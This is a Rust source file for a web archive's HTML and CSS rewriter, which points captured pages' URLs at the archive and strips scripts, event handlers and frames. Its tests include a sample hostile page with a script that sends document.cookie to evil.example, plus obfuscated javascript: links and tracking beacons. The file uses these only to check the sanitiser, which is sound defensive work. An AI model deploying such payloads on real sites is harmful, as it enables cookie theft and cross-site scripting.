//! Server-side rewriting of archived HTML and CSS, as pywb does it for a replay without
//! scripts: every URL a page or stylesheet references (attributes, `srcset`, inline styles,
//! `<style>`, CSS `url()` and `@import`) is resolved against the page's URL (or its `<base>`)
//! and pointed at the archive at the page's time; scripts, event handlers, `javascript:` links,
//! `<meta refresh>` and frames are removed. The Content-Security-Policy of the replay catches
//! whatever this misses.

use std::cell::{Cell, RefCell};

use lol_html::html_content::{ContentType, Element};
use lol_html::{HtmlRewriter, Settings, element, text};
use url::Url;

/// Elements removed with their content: they run code, embed other documents or plugins.
const REMOVED: &str = "script, noscript, iframe, frame, frameset, object, embed, applet, portal";

/// `<link rel>` values that make the browser contact a host by themselves.
const REMOVED_LINK_RELS: &[&str] = &["dns-prefetch", "preconnect", "prefetch", "prerender"];

/// Where rewritten URLs point: `/luu-tru/{timestamp}{modifier}/{public URL}`.
pub(crate) struct UrlRewriter<'a> {
    /// The route prefix, `/luu-tru/`.
    pub(crate) prefix: &'a str,
    /// The page's capture time (14 digits): resources are fetched at the page's time.
    pub(crate) timestamp: &'a str,
    /// Maps an archived URL to the URL readers know (mirror origin -> public origin).
    pub(crate) public: &'a dyn Fn(&Url) -> String,
}

impl UrlRewriter<'_> {
    /// The archive address of `raw` (an attribute or CSS value) resolved against `base`, or
    /// `None` when it must not be kept (`javascript:` and other schemes that run code).
    /// Fragments, `mailto:`, `tel:` and `data:` stay as they are.
    pub(crate) fn rewrite(&self, raw: &str, base: &Url, modifier: &str) -> Option<String> {
        // Browsers ignore tabs and line breaks inside URLs and trim spaces around them.
        let cleaned: String = raw
            .chars()
            .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
            .collect();
        let cleaned = cleaned.trim_matches(|c: char| c <= ' ');
        if cleaned.is_empty() || cleaned.starts_with('#') {
            return Some(cleaned.to_owned());
        }
        let lower = cleaned.to_ascii_lowercase();
        if ["mailto:", "tel:", "data:"]
            .iter()
            .any(|s| lower.starts_with(s))
        {
            return Some(cleaned.to_owned());
        }
        let absolute = base.join(cleaned).ok()?;
        if !matches!(absolute.scheme(), "http" | "https") {
            return None;
        }
        Some(format!(
            "{}{}{}/{}",
            self.prefix,
            self.timestamp,
            modifier,
            (self.public)(&absolute)
        ))
    }

    /// A `srcset` with each candidate URL rewritten (descriptors kept).
    pub(crate) fn rewrite_srcset(&self, srcset: &str, base: &Url) -> String {
        let mut out = Vec::new();
        for (url, descriptor) in crawler::requisites::parse_srcset(srcset) {
            if let Some(rewritten) = self.rewrite(&url, base, "im_") {
                out.push(if descriptor.is_empty() {
                    rewritten
                } else {
                    format!("{rewritten} {descriptor}")
                });
            }
        }
        out.join(", ")
    }

    /// A stylesheet (or a `style` attribute) with `url()` and `@import` targets rewritten,
    /// relative to `base` (the stylesheet's own URL, or the page's); the crawler finds
    /// requisites with the same scanner.
    pub(crate) fn rewrite_css(&self, css: &str, base: &Url) -> String {
        let mut out = String::with_capacity(css.len() + 256);
        let mut done = 0;
        for reference in crawler::requisites::css_references(css) {
            out.push_str(&css[done..reference.range.start]);
            let original = &css[reference.range.clone()];
            let target = self.css_string(
                &reference.url,
                base,
                if reference.import { "cs_" } else { "" },
            );
            if original.starts_with(['"', '\'']) {
                out.push_str(&target);
            } else {
                out.push_str("url(");
                out.push_str(&target);
                out.push(')');
            }
            done = reference.range.end;
        }
        out.push_str(&css[done..]);
        out
    }

    /// A URL for CSS as a double-quoted string; a URL that must not be kept becomes `""`.
    fn css_string(&self, target: &str, base: &Url, modifier: &str) -> String {
        let rewritten = self.rewrite(target, base, modifier).unwrap_or_default();
        // `"` and `\` would end or escape the string; the url crate encodes `"`, not `\`.
        format!("\"{}\"", rewritten.replace('\\', "%5C").replace('"', "%22"))
    }
}

/// Decodes the character references an attribute value may hold (`&amp;`, `&#58;`, `&#x3A;`),
/// so that `jav&#x61;script:` is recognised for what it is.
pub(crate) fn decode_entities(value: &str) -> String {
    if !value.contains('&') {
        return value.to_owned();
    }
    let mut out = String::with_capacity(value.len());
    let mut rest = value;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let end = rest[1..]
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '#'))
            .map_or(rest.len(), |e| e + 1);
        let name = &rest[1..end];
        let decoded = if let Some(number) = name.strip_prefix('#') {
            let code = match number.strip_prefix(['x', 'X']) {
                Some(hex) => u32::from_str_radix(hex, 16).ok(),
                None => number.parse().ok(),
            };
            code.and_then(char::from_u32)
        } else {
            match name {
                "amp" => Some('&'),
                "lt" => Some('<'),
                "gt" => Some('>'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                "nbsp" => Some('\u{a0}'),
                "Tab" => Some('\t'),
                "NewLine" => Some('\n'),
                "colon" => Some(':'),
                _ => None,
            }
        };
        match decoded {
            Some(c) => {
                out.push(c);
                rest = rest[end..].strip_prefix(';').unwrap_or(&rest[end..]);
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// Escapes a value for `set_attribute` (which escapes quotes but not `&`).
fn attribute(value: &str) -> String {
    value.replace('&', "&amp;").replace('<', "&lt;")
}

/// The modifier of a URL attribute (pywb's hints: image, stylesheet, plain).
fn modifier(element: &Element<'_, '_>, attribute: &str) -> &'static str {
    let tag = element.tag_name();
    match (tag.as_str(), attribute) {
        ("link", "href") => {
            let rel = element
                .get_attribute("rel")
                .unwrap_or_default()
                .to_ascii_lowercase();
            if rel.split_whitespace().any(|r| r == "stylesheet") {
                "cs_"
            } else if rel.contains("icon") {
                "im_"
            } else {
                ""
            }
        }
        ("img" | "image" | "input" | "video" | "audio" | "source" | "track", _) => "im_",
        (_, "background" | "poster") => "im_",
        _ => "",
    }
}

/// Rewrites an archived HTML page captured at `page_url`. `banner` (trusted HTML) goes at the
/// top of `<body>` (or of the page when it has none).
pub(crate) fn rewrite_html(
    html: &str,
    page_url: &Url,
    urls: &UrlRewriter<'_>,
    banner: Option<&str>,
) -> Result<String, lol_html::errors::RewritingError> {
    let base = RefCell::new(page_url.clone());
    let banner_done = Cell::new(banner.is_none());
    let style_text = RefCell::new(String::new());
    let mut output = Vec::with_capacity(html.len() + 4096);
    {
        let settings = Settings::new()
            .append_element_content_handler(element!(REMOVED, |el| {
                el.remove();
                Ok(())
            }))
            .append_element_content_handler(element!("base", |el| {
                if let Some(href) = el.get_attribute("href")
                    && let Ok(resolved) = page_url.join(decode_entities(&href).trim())
                    && matches!(resolved.scheme(), "http" | "https")
                {
                    *base.borrow_mut() = resolved;
                }
                el.remove();
                Ok(())
            }))
            .append_element_content_handler(element!("meta[http-equiv]", |el| {
                // refresh, set-cookie, Content-Security-Policy… only the charset one is kept.
                let equiv = el.get_attribute("http-equiv").unwrap_or_default();
                if !equiv.eq_ignore_ascii_case("content-type") {
                    el.remove();
                }
                Ok(())
            }))
            .append_element_content_handler(element!("link[rel]", |el| {
                let rel = el
                    .get_attribute("rel")
                    .unwrap_or_default()
                    .to_ascii_lowercase();
                let preloads_script = rel.contains("modulepreload")
                    || (rel.split_whitespace().any(|r| r == "preload")
                        && el
                            .get_attribute("as")
                            .is_some_and(|a| a.eq_ignore_ascii_case("script")));
                if preloads_script
                    || rel
                        .split_whitespace()
                        .any(|r| REMOVED_LINK_RELS.contains(&r))
                {
                    el.remove();
                }
                Ok(())
            }))
            .append_element_content_handler(element!("body", |el| {
                if let Some(banner) = banner
                    && !banner_done.replace(true)
                {
                    el.prepend(banner, ContentType::Html);
                }
                Ok(())
            }))
            .append_element_content_handler(element!("*", |el| {
                let base = base.borrow().clone();
                let names: Vec<String> = el.attributes().iter().map(|a| a.name()).collect();
                for name in names {
                    let Some(value) = el.get_attribute(&name) else {
                        continue;
                    };
                    let value = decode_entities(&value);
                    let new_value = match name.as_str() {
                        n if n.starts_with("on") => None,
                        "ping" | "srcdoc" | "integrity" | "formaction" | "nonce" => None,
                        "href" | "src" | "action" | "poster" | "data" | "background"
                        | "xlink:href" | "cite" | "longdesc" | "manifest" | "icon" => {
                            urls.rewrite(&value, &base, modifier(el, &name))
                        }
                        "srcset" | "imagesrcset" => Some(urls.rewrite_srcset(&value, &base)),
                        "style" => Some(urls.rewrite_css(&value, &base)),
                        _ => continue,
                    };
                    match new_value {
                        Some(v) => el.set_attribute(&name, &attribute(&v))?,
                        None => el.remove_attribute(&name),
                    }
                }
                Ok(())
            }))
            .append_element_content_handler(text!("style", |chunk| {
                style_text.borrow_mut().push_str(chunk.as_str());
                if chunk.last_in_text_node() {
                    let css = std::mem::take(&mut *style_text.borrow_mut());
                    let rewritten = urls.rewrite_css(&css, &base.borrow());
                    // Raw text: `</style` cannot occur in it (the parser ended the element
                    // there), and rewritten URLs have `<` percent-encoded.
                    chunk.replace(&rewritten.replace("</", "<\\/"), ContentType::Html);
                } else {
                    chunk.remove();
                }
                Ok(())
            }));
        let mut rewriter = HtmlRewriter::new(settings, |c: &[u8]| output.extend_from_slice(c));
        rewriter.write(html.as_bytes())?;
        rewriter.end()?;
    }
    let mut page = String::from_utf8_lossy(&output).into_owned();
    if let Some(banner) = banner
        && !banner_done.get()
    {
        page.insert_str(0, banner);
    }
    Ok(page)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn public(u: &Url) -> String {
        u.as_str()
            .replace("http://127.0.0.1:8000", "https://thanuyen.laichau.gov.vn")
    }

    fn urls() -> UrlRewriter<'static> {
        UrlRewriter {
            prefix: "/luu-tru/",
            timestamp: "20240615083000",
            public: &public,
        }
    }

    fn page() -> Url {
        Url::parse("http://127.0.0.1:8000/laws/detail/Nghi-quyet-140/").unwrap()
    }

    #[test]
    fn urls_point_at_the_archive_at_the_page_time_with_public_urls() {
        let u = urls();
        let base = page();
        assert_eq!(
            u.rewrite("../../", &base, "").unwrap(),
            "/luu-tru/20240615083000/https://thanuyen.laichau.gov.vn/laws/"
        );
        assert_eq!(
            u.rewrite("/themes/default/images/logo.png", &base, "im_")
                .unwrap(),
            "/luu-tru/20240615083000im_/https://thanuyen.laichau.gov.vn/themes/default/images/logo.png"
        );
        assert_eq!(
            u.rewrite("//cdn.example.com/a.js", &base, "").unwrap(),
            "/luu-tru/20240615083000/http://cdn.example.com/a.js"
        );
        assert_eq!(u.rewrite("#muc-1", &base, "").unwrap(), "#muc-1");
        assert_eq!(
            u.rewrite("mailto:vp@laichau.gov.vn", &base, "").unwrap(),
            "mailto:vp@laichau.gov.vn"
        );
        assert_eq!(u.rewrite("javascript:alert(1)", &base, ""), None);
        assert_eq!(u.rewrite(" java\tscript:alert(1)", &base, ""), None);
        assert_eq!(u.rewrite("vbscript:x", &base, ""), None);
    }

    #[test]
    fn srcset_candidates_are_each_rewritten() {
        let u = urls();
        let out = u.rewrite_srcset(
            "/uploads/anh-nho.jpg 480w, /uploads/anh,lon.jpg 1024w,/uploads/goc.jpg",
            &page(),
        );
        assert_eq!(
            out,
            "/luu-tru/20240615083000im_/https://thanuyen.laichau.gov.vn/uploads/anh-nho.jpg 480w, \
             /luu-tru/20240615083000im_/https://thanuyen.laichau.gov.vn/uploads/anh,lon.jpg 1024w, \
             /luu-tru/20240615083000im_/https://thanuyen.laichau.gov.vn/uploads/goc.jpg"
        );
    }

    #[test]
    fn css_urls_and_imports_resolve_against_the_stylesheet() {
        let u = urls();
        let sheet = Url::parse("http://127.0.0.1:8000/themes/default/css/style.css").unwrap();
        let css = "@import \"reset.css\";\n@import url('print.css') print;\nbody{background:url(../images/nen.png) no-repeat}\n.logo{background-image:URL( \"/uploads/logo.svg\" )}\n.x{background:url(data:image/png;base64,AAAA)}\n@font-face{src:url(../fonts/Roboto.woff2?v=1#iefix) format('woff2')}";
        let out = u.rewrite_css(css, &sheet);
        let p = "/luu-tru/20240615083000";
        let h = "https://thanuyen.laichau.gov.vn";
        assert!(
            out.contains(&format!(
                "@import \"{p}cs_/{h}/themes/default/css/reset.css\";"
            )),
            "{out}"
        );
        assert!(
            out.contains(&format!(
                "@import url(\"{p}cs_/{h}/themes/default/css/print.css\") print;"
            )),
            "{out}"
        );
        assert!(
            out.contains(&format!(
                "url(\"{p}/{h}/themes/default/images/nen.png\") no-repeat"
            )),
            "{out}"
        );
        assert!(
            out.contains(&format!("url(\"{p}/{h}/uploads/logo.svg\")")),
            "{out}"
        );
        assert!(out.contains("url(\"data:image/png;base64,AAAA\")"), "{out}");
        assert!(
            out.contains(&format!(
                "url(\"{p}/{h}/themes/default/fonts/Roboto.woff2?v=1#iefix\") format('woff2')"
            )),
            "{out}"
        );
    }

    #[test]
    fn hostile_page_keeps_nothing_that_runs_or_leaves_the_archive() {
        let html = r#"<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<link rel="dns-prefetch" href="//evil.example"><link rel="stylesheet" href="/themes/a.css">
<base href="http://127.0.0.1:8000/news/">
<script>fetch('https://evil.example/'+document.cookie)</script>
<style>body{background:url(nen.png)}</style></head>
<body onload="alert(1)"><p>Tin tức Than Uyên</p>
<img src="x.png" onerror="alert(2)" srcset="a.png 1x, b.png 2x">
<a href="javascript:alert(3)">bấm</a><a href="jav&#x61;script&colon;alert(4)">nữa</a>
<a href="bai-viet-1.html" ping="https://evil.example/ping">bài viết</a>
<svg><script>alert(5)</script><a xlink:href="javascript:alert(6)">svg</a></svg>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>
<form action="https://evil.example/post"><button formaction="https://evil.example/">Gửi</button></form>
<div style="background-image:url('https://evil.example/track.gif')">x</div>
<SCRIPT src="https://evil.example/a.js"></SCRIPT><noscript><img src="https://evil.example/n.gif"></noscript>
</body></html>"#;
        let out = rewrite_html(
            html,
            &page(),
            &urls(),
            Some("<div id=\"banner\">Bản lưu trữ</div>"),
        )
        .unwrap();
        let lower = out.to_lowercase();
        for banned in [
            "<script",
            "onload",
            "onerror",
            "javascript:",
            "refresh",
            "<iframe",
            "<object",
            "<base",
            "ping=",
            "formaction",
            "dns-prefetch",
            "<noscript",
            "alert(4)",
        ] {
            assert!(!lower.contains(banned), "{banned} left in {out}");
        }
        // No URL leaves the archive: every absolute or root-relative URL starts with /luu-tru/.
        for attr in ["href=\"", "src=\"", "action=\"", "url(\""] {
            for part in out.split(attr).skip(1) {
                assert!(
                    part.starts_with("/luu-tru/")
                        || part.starts_with("data:")
                        || part.starts_with('"'),
                    "{attr}{part}"
                );
            }
        }
        assert!(
            !out.contains("evil.example\"")
                || out.contains("/luu-tru/20240615083000/https://evil.example")
        );
        assert!(out.contains("<p>Tin tức Than Uyên</p>"));
        assert!(
            out.contains(
                "/luu-tru/20240615083000/https://thanuyen.laichau.gov.vn/news/bai-viet-1.html"
            ),
            "base honoured: {out}"
        );
        assert!(
            out.contains(
                "url(\"/luu-tru/20240615083000/https://thanuyen.laichau.gov.vn/news/nen.png\")"
            ),
            "{out}"
        );
        assert!(
            out.contains(
                "/luu-tru/20240615083000im_/https://thanuyen.laichau.gov.vn/news/b.png 2x"
            ),
            "{out}"
        );
        assert!(
            out.contains(
                "href=\"/luu-tru/20240615083000cs_/https://thanuyen.laichau.gov.vn/themes/a.css\""
            ),
            "{out}"
        );
        assert!(out.contains("charset=utf-8"));
        assert!(out.find("Bản lưu trữ").unwrap() > out.find("<body").unwrap());
    }

    #[test]
    fn query_strings_stay_escaped_in_attributes_and_entities_are_decoded() {
        let out = rewrite_html(
            r#"<a href="/laws/detail/A-1/?download=1&amp;id=0">PDF</a>"#,
            &page(),
            &urls(),
            None,
        )
        .unwrap();
        assert_eq!(
            out,
            r#"<a href="/luu-tru/20240615083000/https://thanuyen.laichau.gov.vn/laws/detail/A-1/?download=1&amp;id=0">PDF</a>"#
        );
        assert_eq!(
            decode_entities("a&amp;b&#58;&#x3a;&unknown;&"),
            "a&b::&unknown;&"
        );
    }

    #[test]
    fn a_page_without_body_still_gets_the_banner() {
        let out = rewrite_html(
            "<p>Trang cũ</p>",
            &page(),
            &urls(),
            Some("<div>Bản lưu trữ</div>"),
        )
        .unwrap();
        assert!(out.starts_with("<div>Bản lưu trữ</div>"), "{out}");
    }
}
